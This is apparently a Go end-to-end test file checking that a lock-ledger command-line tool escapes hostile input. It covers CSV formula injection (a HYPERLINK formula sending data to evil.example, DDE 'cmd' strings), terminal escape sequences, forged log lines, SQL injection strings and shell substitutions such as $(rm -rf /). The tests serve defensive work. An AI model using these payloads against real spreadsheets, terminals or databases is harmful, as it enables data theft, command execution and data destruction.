package e2e

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lockledger/lockledger/events"
	"github.com/lockledger/lockledger/internal/clitest"
	"github.com/lockledger/lockledger/internal/fixture"
	"github.com/lockledger/lockledger/internal/termtext"
	"github.com/lockledger/lockledger/ledger"
)

// forgedLine begins the line that a hostile field tries to add to a
// report; no line of any output may begin with it.
const forgedLine = "FORGED"

// rawControl names the first character of s that a terminal would act
// on, other than the newline ending a line: a C0 or C1 control
// character, DEL, a line or paragraph separator, a bidirectional control
// (termtext.Unsafe), or a byte that is not UTF-8. "" if none.
func rawControl(s string) string {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return strconv.Quote(s[i:min(i+1, len(s))]) + " at byte " + strconv.Itoa(i)
		case r == '\n':
		case termtext.Unsafe(r):
			return strconv.QuoteRune(r) + " at byte " + strconv.Itoa(i)
		}
	}
	return ""
}

// assertPlainText fails unless out is plain lines: no control character a
// terminal would act on, and no line that a field forged.
func assertPlainText(t *testing.T, what, out string) {
	t.Helper()
	if c := rawControl(out); c != "" {
		t.Errorf("%s prints a raw control character (%s):\n%q", what, c, out)
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), forgedLine) {
			t.Errorf("%s prints a line forged by a recorded field: %q", what, l)
		}
	}
}

// TestHostileTextCSVCellsAreNeverFormulas: actors, a request id and an
// intent chosen to run in a spreadsheet (OWASP's CSV injection) are
// written by timeline, history and export as CSV cells a spreadsheet
// reads as text (a leading '), while JSONL keeps their exact bytes and
// verify still passes.
func TestHostileTextCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	self := strconv.Itoa(os.Getpid())
	actors := map[string]string{ // lock -> actor
		"calc": `=cmd|' /C calc'!A0`,
		"sum":  `+SUM(1+1)*cmd|' /C calc'!A0`,
		"link": `@HYPERLINK("http://evil.example/?leak="&A1)`,
		"neg":  `-2+3+cmd|' /C calc'!A0`,
	}
	const intent = `@HYPERLINK("http://evil.example/")`
	for lock, actor := range actors {
		clitest.Must(t, 0, root, "acquire", lock, "--actor", actor, "--intent", intent, "--pid", self)
	}
	clitest.Must(t, 0, root, "acquire", "req", "--request-id=-2-1", "--pid", self)

	exported := filepath.Join(t.TempDir(), "ledger.csv")
	clitest.Must(t, 0, root, "export", "--format", "csv", "-o", exported)
	file, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		what, out string
		actorCol  int
	}{
		{"timeline --format csv", clitest.Must(t, 0, root, "timeline", "--format", "csv").Stdout, 4},
		{"history --format csv", clitest.Must(t, 0, root, "history", "calc", "--format", "csv").Stdout, 4},
		{"export --format csv", clitest.Must(t, 0, root, "export", "--format", "csv").Stdout, 6},
		{"export --format csv -o", string(file), 6},
	} {
		rows, err := csv.NewReader(strings.NewReader(c.out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v\n%s", c.what, err, c.out)
		}
		quoted := 0
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: a cell a spreadsheet runs as a formula: %q", c.what, cell)
				}
			}
			for _, actor := range actors {
				if row[c.actorCol] == "'"+actor {
					quoted++
				}
			}
		}
		if want := map[bool]int{true: 1, false: len(actors)}[strings.HasPrefix(c.what, "history")]; quoted != want {
			t.Errorf("%s: %d actor cells read '<actor>, want %d:\n%s", c.what, quoted, want, c.out)
		}
	}

	found := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(clitest.Must(t, 0, root, "export").Stdout), "\n") {
		var row struct {
			Body struct {
				LockName  string `json:"lock_name"`
				Actor     string `json:"actor"`
				RequestID string `json:"request_id"`
				Intent    string `json:"intent"`
			} `json:"body"`
		}
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		ev := row.Body
		if a, ok := actors[ev.LockName]; ok && ev.Actor == a && ev.Intent == intent {
			found[ev.LockName] = true
		}
		if ev.LockName == "req" && ev.RequestID == "-2-1" {
			found["req"] = true
		}
	}
	if len(found) != len(actors)+1 {
		t.Errorf("the JSONL export keeps the exact values of %v only, want every lock of %v and req", found, actors)
	}
	clitest.Verify(t, 0, root)
}

// TestHostileTextHostIDIsRefused: a LOCKLEDGER_HOST_ID that would forge a
// line in every report (a newline), drive the reader's terminal (ESC) or
// be stored one way in the body and another in the row (not UTF-8) is
// refused with exit 2 naming the variable and the rule, by writers and
// readers alike, and the ledger is unchanged.
func TestHostileTextHostIDIsRefused(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	self := strconv.Itoa(os.Getpid())
	clitest.Must(t, 0, root, "acquire", "first", "--pid", self)
	before := snapLedger(t, root)
	for _, c := range []struct{ id, rule string }{
		{"evil\n" + forgedLine + " 1 2026-01-01 lock_released prod", "must not contain control characters"},
		{"evil\x1b[2J\x1b[H", "must not contain control characters"},
		{"evil\x1b]0;pwned\x07", "must not contain control characters"},
		{"evil\xff\xfe", "must be valid UTF-8"},
	} {
		for _, args := range [][]string{{"acquire", "prod", "--pid", self}, {"run", "prod", "--", "true"}, {"list"}} {
			r := clitest.RunWith(t, root, []string{ledger.HostIDEnv + "=" + c.id}, "", args...)
			if r.Code != 2 || !strings.Contains(r.Stderr, ledger.HostIDEnv) || !strings.Contains(r.Stderr, c.rule) {
				t.Errorf("%v with %s=%q: exit %d, want 2 naming %s and %q\nstdout: %s\nstderr: %s", args, ledger.HostIDEnv, c.id,
					r.Code, ledger.HostIDEnv, c.rule, r.Stdout, r.Stderr)
			}
			assertPlainText(t, "the refusal", r.Stderr)
		}
	}
	if after := snapLedger(t, root); after != before {
		t.Errorf("refused host ids changed the ledger: %s, then %s", before, after)
	}
	clitest.Verify(t, 0, root)
}

// TestHostileTextRecordedFieldsAreEscaped: a ledger that already holds a
// host id and an actor with a newline, ESC sequences and an OSC title
// (written before host ids were checked), and paths of -o and verify
// --file with ESC and newlines, is shown by every text report, the
// timeline page and picture, the CSVs, and the refusal of a blocked
// acquire with each control character escaped visibly: no forged line,
// nothing the terminal acts on, an SVG that parses. The JSONL export keeps the exact
// bytes, and verify passes.
func TestHostileTextRecordedFieldsAreEscaped(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	root := filepath.Join(t.TempDir(), "r")
	l, err := ledger.Open(ctx, root, ledger.Unsigned())
	if err != nil {
		t.Fatal(err)
	}
	host := l.Host()
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	const (
		hostID = "far\n" + forgedLine + " 2026-01-01T00:00:00Z lock_released prod\x1b[2J"
		actor  = "bot\x1b]0;pwned\x07\r" + forgedLine + "\u009b31m"
	)
	at := time.Now().UTC()
	ev := &events.Event{
		Envelope: events.Envelope{EventID: events.NewULID(at), Type: events.LockAcquired, SchemaVersion: events.SchemaVersion,
			At: events.FormatTime(at), LockName: "prod", RequestID: "req_far", Actor: actor, HostID: hostID, PID: 4242},
		Payload: &events.Acquired{TTLSeconds: 3600, Intent: "deploy", IntentVersion: "1", FencingToken: 1,
			Metadata: map[string]string{}, PIDStart: "1", BootID: host.BootID},
	}
	db, err := sql.Open("sqlite", "file:"+filepath.Join(root, ledger.DBFile))
	if err != nil {
		t.Fatal(err)
	}
	fixture.Append(t, db, ev)
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	clitest.Must(t, 0, root, "project")

	out := filepath.Join(t.TempDir(), "x\x1b[2J\n"+forgedLine+" export.jsonl")
	clitest.Must(t, 0, root, "export", "-o", out)
	exported, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(exported, []byte(`"host_id":"far\n`+forgedLine)) || !bytes.Contains(exported, []byte(`"actor":"bot\u001b]0;pwned\u0007\r`)) {
		t.Errorf("the JSONL export does not keep the recorded host id and actor exactly:\n%s", exported)
	}
	verified := clitest.Must(t, 0, root, "verify", "--file", out)
	assertPlainText(t, "verify --file", verified.Stdout)
	if !strings.Contains(verified.Stdout, `x\x1b[2J\n`+forgedLine) {
		t.Errorf("verify --file does not show the path escaped:\n%s", verified.Stdout)
	}

	for _, args := range [][]string{
		{"timeline"}, {"history", "prod"}, {"who", "prod"}, {"status", "prod"}, {"list"},
		{"timeline", "--format", "svg"}, {"timeline", "--format", "html"}, {"timeline", "--format", "csv"}, {"export", "--format", "csv"},
	} {
		r := clitest.Must(t, 0, root, args...)
		assertPlainText(t, strings.Join(args, " "), r.Stdout)
		assertPlainText(t, strings.Join(args, " ")+" (stderr)", r.Stderr)
		if args[len(args)-1] == "svg" {
			dec := xml.NewDecoder(strings.NewReader(r.Stdout))
			for {
				if _, err := dec.Token(); errors.Is(err, io.EOF) {
					break
				} else if err != nil {
					t.Errorf("timeline --format svg is not XML: %v", err)
					break
				}
			}
		}
	}
	if tl := clitest.Must(t, 0, root, "timeline", "--wide").Stdout; !strings.Contains(tl, `far\n`+forgedLine) || !strings.Contains(tl, `x\x1b[2J\n`+forgedLine) {
		t.Errorf("timeline does not show the host id and the -o path escaped:\n%s", tl)
	}

	blocked := clitest.Run(t, root, "acquire", "prod", "--pid", strconv.Itoa(os.Getpid()))
	if blocked.Code != 3 || !strings.Contains(blocked.Stderr, `bot\x1b]0;pwned\x07\r`+forgedLine+`\u009b31m`) {
		t.Errorf("acquire of the held lock: exit %d, want 3 with the actor escaped:\n%s", blocked.Code, blocked.Stderr)
	}
	assertPlainText(t, "acquire's refusal", blocked.Stderr)
	clitest.Verify(t, 0, root)
}

// TestHostileTextForeignLockFile: another tool's lock file at a lock's
// path whose actor carries an OSC sequence and a newline is shown by
// status, list, the refusal of acquire (text and --json message), wait's
// progress line and the timeline with the characters escaped.
func TestHostileTextForeignLockFile(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	self := strconv.Itoa(os.Getpid())
	clitest.Must(t, 0, root, "acquire", "other", "--pid", self)
	now := time.Now().UTC().Format(time.RFC3339)
	host, _ := os.Hostname()
	doc := `{"lock_version":"v1","lock_name":"odd","request_id":"req_foreign","actor":"tower\u001b]0;pwned\u0007\n` + forgedLine +
		`","intent":"","intent_version":"","host_id":"` + host + `","pid":` + self + `,"created_at":"` + now +
		`","last_heartbeat_at":"` + now + `","ttl_seconds":900}` + "\n"
	if err := os.WriteFile(filepath.Join(root, "locks", "odd.lock"), []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args []string
		code int
	}{
		{[]string{"status", "odd"}, 0},
		{[]string{"list"}, 0},
		{[]string{"acquire", "odd", "--pid", self}, 3},
		{[]string{"acquire", "odd", "--wait", "1s", "--pid", self}, 3},
		{[]string{"timeline"}, 0},
	} {
		r := clitest.Run(t, root, c.args...)
		if r.Code != c.code {
			t.Errorf("%v: exit %d, want %d\n%s", c.args, r.Code, c.code, r.Stderr)
		}
		assertPlainText(t, strings.Join(c.args, " "), r.Stdout)
		assertPlainText(t, strings.Join(c.args, " ")+" (stderr)", r.Stderr)
		if !strings.Contains(r.Stdout+r.Stderr, `tower\x1b]0;pwned\x07\n`+forgedLine) {
			t.Errorf("%v does not show the foreign actor escaped:\n%s%s", c.args, r.Stdout, r.Stderr)
		}
	}
	r := clitest.Run(t, root, "acquire", "odd", "--json", "--pid", self)
	var obj struct {
		Message string `json:"message"`
		HeldBy  struct {
			Actor string `json:"actor"`
		} `json:"held_by"`
	}
	if err := json.Unmarshal([]byte(strings.SplitN(r.Stdout, "\n", 2)[0]), &obj); err != nil {
		t.Fatalf("acquire --json: %v\n%s", err, r.Stdout)
	}
	if obj.HeldBy.Actor != "tower\x1b]0;pwned\x07\n"+forgedLine || rawControl(obj.Message) != "" || strings.Contains(obj.Message, "\n") {
		t.Errorf("acquire --json: held_by.actor %q (want the exact bytes), message %q (want it escaped)", obj.HeldBy.Actor, obj.Message)
	}
	clitest.Verify(t, 0, root)
}

// TestSecurityHostileTextRoundTrips: lock names, actors, intents, request
// ids, metadata, steal reasons and failure steps full of quotes, SQL
// keywords, comment markers, format verbs and non-ASCII text are stored and
// read back byte for byte (event bodies, lock files, status), and the
// database still has every table and a chain that verifies.
func TestSecurityHostileTextRoundTrips(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	self := strconv.Itoa(os.Getpid())
	const lock = "drop-table-events--or-1-1"
	actor := `Robert'); DROP TABLE events;-- "O'Brien" ` + "`whoami` $(id) %s%n %x \\ ключ 🔒"
	intent := `"; DELETE FROM locks WHERE 1=1; --`
	version := `1' OR '1'='1`
	md := map[string]string{
		`q'uote`:      `"double" 'single' `,
		"sql":         "SELECT * FROM events WHERE lock_name = '' OR 1=1; --",
		"ключ":        "значение",
		"%s%d":        "%v %!",
		`$(rm -rf /)`: "`x`",
		"nul-ish":     `\u0000 \x00`,
	}
	const rid = "req:1.2_3-4"
	args := []string{"acquire", lock, "--json", "--pid", self, "--actor", actor, "--intent", intent, "--intent-version", version,
		"--request-id", rid}
	keys := make([]string, 0, len(md))
	for k := range md {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		args = append(args, "--metadata", k+"="+md[k])
	}
	r := clitest.Must(t, 0, root, args...)
	var acq struct {
		RequestID string         `json:"request_id"`
		Lock      map[string]any `json:"lock"`
	}
	if err := json.Unmarshal([]byte(r.Stdout), &acq); err != nil {
		t.Fatalf("acquire --json: %v\n%s", err, r.Stdout)
	}
	checkRecord := func(where string, rec map[string]any) {
		t.Helper()
		for field, want := range map[string]string{"lock_name": lock, "request_id": rid, "actor": actor, "intent": intent,
			"intent_version": version} {
			if rec[field] != want {
				t.Errorf("%s: %s = %q, want %q", where, field, rec[field], want)
			}
		}
		gotMD, _ := rec["metadata"].(map[string]any)
		if len(gotMD) != len(md) {
			t.Errorf("%s: metadata %v, want %v", where, gotMD, md)
		}
		for k, v := range md {
			if gotMD[k] != v {
				t.Errorf("%s: metadata[%q] = %q, want %q", where, k, gotMD[k], v)
			}
		}
	}
	if acq.RequestID != rid {
		t.Errorf("request id %q, want %q", acq.RequestID, rid)
	}
	checkRecord("acquire --json lock", acq.Lock)
	var file map[string]any
	data, err := os.ReadFile(filepath.Join(root, "locks", lock+".lock"))
	if err != nil || json.Unmarshal(data, &file) != nil {
		t.Fatalf("lock file: %v\n%s", err, data)
	}
	checkRecord("lock file", file)
	checkRecord("status --json", statusJSON(t, root, lock)["lock"].(map[string]any))
	body := lastBody(t, root, "lock_acquired")
	body["lock_name"], body["request_id"] = lock, rid // envelope fields, same names as the record
	for _, f := range []string{"actor", "intent", "intent_version"} {
		if body[f] != map[string]string{"actor": actor, "intent": intent, "intent_version": version}[f] {
			t.Errorf("lock_acquired %s = %q", f, body[f])
		}
	}
	checkRecord("lock_acquired body", body)
	var col string
	if err := clitest.DB(t, root).QueryRow(`SELECT actor FROM events WHERE request_id = ?`, rid).Scan(&col); err != nil || col != actor {
		t.Errorf("events.actor column %q (%v), want %q", col, err, actor)
	}

	reason := `INC-1: it's "stuck"; DROP TABLE locks; -- ` + "\u00e9\u00e8"
	clitest.Must(t, 0, root, "steal", lock, "--active", "--yes", "--reason", reason, "--actor", actor, "--pid", self)
	if st := lastBody(t, root, "lock_stolen"); st["note"] != reason || st["actor"] != actor {
		t.Errorf("lock_stolen note %q actor %q", st["note"], st["actor"])
	}
	step := `migrate 'users'; DELETE FROM events; --`
	holder := statusJSON(t, root, lock)["request_id"].(string)
	clitest.Must(t, 0, root, "release", lock, "--request-id", holder, "--result", "failure", "--failure-step", step)
	if rel := lastBody(t, root, "lock_released"); rel["failure_step"] != step {
		t.Errorf("failure_step %q, want %q", rel["failure_step"], step)
	}
	var tables int
	if err := clitest.DB(t, root).QueryRow(`SELECT count(*) FROM sqlite_master WHERE type = 'table'
		AND name IN ('events', 'locks', 'meta', 'schema_migrations')`).Scan(&tables); err != nil || tables != 4 {
		t.Fatalf("tables after hostile input: %d (%v), want 4", tables, err)
	}
	if n := clitest.EventCount(t, root); n != 3 {
		t.Fatalf("%d events, want 3 (acquired, stolen, released)", n)
	}
	assertChain(t, root)
	if v := clitest.Run(t, root, "verify"); v.Code != 0 {
		t.Fatalf("verify after hostile input: exit %d\n%s%s", v.Code, v.Stdout, v.Stderr)
	}
}

// TestHostileTextForeignLockFileC1InJSON: another tool's lock file whose
// host id and actor carry C1 controls (U+009B is CSI to a terminal, U+0085
// NEL, U+0090 DCS) is printed by every --json command that shows it with
// each one written as \u00XX: the same value to a JSON reader, nothing a
// terminal acts on.
func TestHostileTextForeignLockFileC1InJSON(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	self := strconv.Itoa(os.Getpid())
	clitest.Must(t, 0, root, "acquire", "other", "--pid", self)
	const (
		actor = "tower\u009b31m\u0090q\u202e"
		host  = "far\u009b2J\u0085x"
	)
	now := time.Now().UTC().Format(time.RFC3339)
	doc := `{"lock_version":"v1","lock_name":"odd","request_id":"req_foreign","actor":"tower\u009b31m\u0090q\u202e",` +
		`"intent":"","intent_version":"","host_id":"far\u009b2J\u0085x","pid":` + self + `,"created_at":"` + now +
		`","last_heartbeat_at":"` + now + `","ttl_seconds":900}` + "\n"
	if err := os.WriteFile(filepath.Join(root, "locks", "odd.lock"), []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args []string
		code int
	}{
		{[]string{"status", "odd", "--json"}, 0},
		{[]string{"list", "--json"}, 0},
		{[]string{"acquire", "odd", "--json", "--pid", self}, 3},
		{[]string{"acquire", "odd", "--wait", "1s", "--json", "--pid", self}, 3},
		{[]string{"run", "odd", "--json", "--", "true"}, 3},
		{[]string{"steal", "odd", "--reason", "test", "--json"}, 3},
		{[]string{"status", "odd", "--json", "--jq", ".lock"}, 0},
	} {
		what := strings.Join(c.args, " ")
		r := clitest.Run(t, root, c.args...)
		if r.Code != c.code {
			t.Errorf("%s: exit %d, want %d\n%s", what, r.Code, c.code, r.Stderr)
		}
		assertPlainText(t, what, r.Stdout)
		assertPlainText(t, what+" (stderr)", r.Stderr)
		var v any
		if err := json.Unmarshal([]byte(r.Stdout), &v); err != nil {
			t.Errorf("%s: not one JSON document: %v\n%s", what, err, r.Stdout)
			continue
		}
		if !holdsString(v, actor) || !holdsString(v, host) {
			t.Errorf("%s: the foreign actor and host id are not there with their exact values:\n%s", what, r.Stdout)
		}
	}
	// The log of --log-format json follows the same rule: the final
	// error's line names the holder, each value exact to a JSON reader.
	for _, args := range [][]string{
		{"acquire", "odd", "--pid", self, "--log-format", "json"},
		{"acquire", "odd", "--pid", self, "--log-format", "json", "--json"},
	} {
		what := strings.Join(args, " ")
		r := clitest.Run(t, root, args...)
		if r.Code != 3 {
			t.Errorf("%s: exit %d, want 3\n%s", what, r.Code, r.Stderr)
		}
		assertPlainText(t, what+" (stderr)", r.Stderr)
		found := false
		for _, line := range strings.Split(strings.TrimSpace(r.Stderr), "\n") {
			var v any
			if err := json.Unmarshal([]byte(line), &v); err != nil {
				t.Errorf("%s: a log line that is not JSON: %v\n%q", what, err, line)
				continue
			}
			found = found || holdsString(v, actor) && holdsString(v, host)
		}
		if !found {
			t.Errorf("%s: no log line names the foreign holder with its exact values:\n%s", what, r.Stderr)
		}
	}
	// A string --jq prints bare is text, escaped as the text output
	// writes another user's text; --json keeps the exact value.
	for _, c := range []struct{ expr, want string }{
		{".lock.actor", `tower\u009b31m\u0090q\u202e`},
		{".lock.host_id", `far\u009b2J\u0085x`},
	} {
		r := clitest.Must(t, 0, root, "status", "odd", "--jq", c.expr)
		assertPlainText(t, "status --jq "+c.expr, r.Stdout)
		if r.Stdout != c.want+"\n" {
			t.Errorf("status --jq %s: %q, want %q", c.expr, r.Stdout, c.want+"\n")
		}
	}
	// Taken over, the foreign file is recorded in the event (previous_lock):
	// the events' JSON follows the same rule, and an export still verifies.
	clitest.Must(t, 0, root, "steal", "odd", "--active", "--yes", "--reason", "test", "--pid", self)
	export := filepath.Join(t.TempDir(), "export.jsonl")
	for _, args := range [][]string{
		{"export"},
		{"history", "odd", "--json"},
		{"timeline", "--format", "jsonl"},
	} {
		what := strings.Join(args, " ")
		r := clitest.Must(t, 0, root, args...)
		assertPlainText(t, what, r.Stdout)
		if !strings.Contains(r.Stdout, `"actor":"tower\u009b31m\u0090q\u202e"`) {
			t.Errorf("%s: the taken-over file's actor is not there, escaped:\n%s", what, r.Stdout)
		}
		if args[0] == "export" {
			if err := os.WriteFile(export, []byte(r.Stdout), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	// The CSVs escape them as every text output does (the body column's
	// JSON keeps the same value): no raw C1 control in any cell.
	for _, args := range [][]string{
		{"export", "--format", "csv"},
		{"history", "odd", "--format", "csv"},
		{"timeline", "--format", "csv"},
	} {
		what := strings.Join(args, " ")
		r := clitest.Must(t, 0, root, args...)
		assertPlainText(t, what, r.Stdout)
		if !strings.Contains(r.Stdout, `tower\u009b31m\u0090q\u202e`) {
			t.Errorf("%s: the taken-over file's actor is not there, escaped:\n%s", what, r.Stdout)
		}
	}
	clitest.Must(t, 0, root, "verify", "--file", export)
	clitest.Verify(t, 0, root)
}

// holdsString reports whether s is one of v's strings (a decoded JSON
// document), as a value or a key.
func holdsString(v any, s string) bool {
	switch v := v.(type) {
	case string:
		return v == s
	case []any:
		for _, e := range v {
			if holdsString(e, s) {
				return true
			}
		}
	case map[string]any:
		for k, e := range v {
			if k == s || holdsString(e, s) {
				return true
			}
		}
	}
	return false
}
